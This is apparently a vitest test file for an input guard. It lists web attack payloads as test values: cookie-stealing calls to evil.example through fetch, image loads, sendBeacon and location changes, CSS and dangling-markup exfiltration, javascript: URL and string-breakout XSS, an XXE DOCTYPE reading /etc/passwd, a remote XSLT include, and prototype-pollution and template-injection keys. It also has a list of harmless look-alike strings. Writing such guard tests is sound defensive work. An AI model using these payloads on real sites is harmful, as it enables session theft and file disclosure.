// Script and markup as values: statements that send away what a page keeps to itself, sheets and tags that do so without
// script, names that reach into objects. Headings, lines of a listing and tags that chance has made pass.

import { describe, expect, test } from 'vitest'

import { refusing } from '../corpora/guard.ts'

const isRefused = refusing({})

const PLACES = ['query', 'json', 'form', 'multipart', 'xml', 'cookie']

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'a statement that sends a secret away': [
    "fetch('//evil.example/'+document.cookie)",
    "1;document.location='http://evil.example/?'+document.cookie",
    "x=location='//evil.example/'+document.cookie",
    "new Image().src='//evil.example/'+document.cookie",
    "navigator.sendBeacon('//evil.example',document.cookie)",
    "postMessage(document.cookie,'*')",
    "document.forms[0].action='//evil.example'",
    "document.body.innerHTML='x'",
  ],
  'markup that does so without script': [
    '<style>input[value^=a]{background:url(//evil.example/?a)}</style>',
    "<img src='//evil.example/?",
    '"><img src=\'//evil.example/?x=',
  ],
  'a script URL with breaks, which browsers drop, or in a template literal': [
    'javascript:\n\nalert(1)',
    'javascript:`${alert(1)}`',
    'javascript:\n\n```js${alert(1)}`',
    'javascript:\n\n```x``` [x](javascript:alert(1))',
  ],
  'a string that is closed behind a sentence': [
    "Thanks, it's fine and we will come on Monday at ten, as you said in your letter. ';alert(1)//",
    'Thanks, we will come on Monday at ten, as you have said in your last letter to us. "-alert(1)-"',
  ],
  'a handler with a long name': ['x" oncontentvisibilityautostatechange="alert(1)//'],
  'a document type whose quotes are escaped (CWE-611)': [
    '<!DOCTYPE x SYSTEM \\"http://evil.example/x.dtd\\">',
    '{"a":"<!DOCTYPE x PUBLIC \\"-//a//b\\" \\"file:///etc/passwd\\">',
  ],
  'a style sheet that reaches out of itself, by any prefix': [
    '<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform"><s:include href="http://evil.example/a"/></s:stylesheet>',
    '<s:transform xmlns:s="http://www.w3.org/1999/XSL/Transform"><s:result-document href="x.jsp">a</s:result-document></s:transform>',
  ],
  'a name that reaches into objects': [
    "a['__proto__']['x']=1",
    '["__proto__"]["isAdmin"]=1',
    '__pro__proto__to__[admin]=1',
    'a[constructor][prototype][x]=1',
    '__proto__',
    '/__proto__/admin',
    'constructor.prototype.x',
    '/constructor/prototype/x',
    'a["constructor"]["prototype"]["b"]',
    'constructor[prototype][json spaces]=1',
    '__init__.__globals__.app.secret',
    'x.__class__.__mro__.__subclasses__',
  ],
}

describe('a value that acts in a page or in an object', () => {
  const rows = Object.entries(ATTACKS).flatMap(([kind, list]) => list.map((text) => ({ kind, text })))
  test.each(rows)('$kind: $text', ({ text }) => {
    expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
  })
})

const HARMLESS: readonly string[] = [
  'JavaScript:\n\n```js\nlet a = 1\n```',
  'In JavaScript:\n\n```js\nalert(1)\n```',
  'It is parsed as `javascript:`. It then shows alert(x) to the user, as before',
  "D'><U%P*AQ+Ij:Ku",
  'a[href^="http"]{background:url(icon.png)}',
  'the prototype of a constructor',
  '<s:schema xmlns:s="http://www.w3.org/2001/XMLSchema"><s:include schemaLocation="common.xsd"/></s:schema>',
  'object.__class__.__name__',
  'shop.orders.__init__',
  JSON.stringify({ preview: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML', until: '2026-01-01' }),
  '<img src="https://cdn.example/a.png?w=1" width="10">',
]

test.each(HARMLESS)('a value that does not: %s', (text) => {
  expect(['json', 'form'].filter((place) => isRefused(place, text))).toEqual([])
})
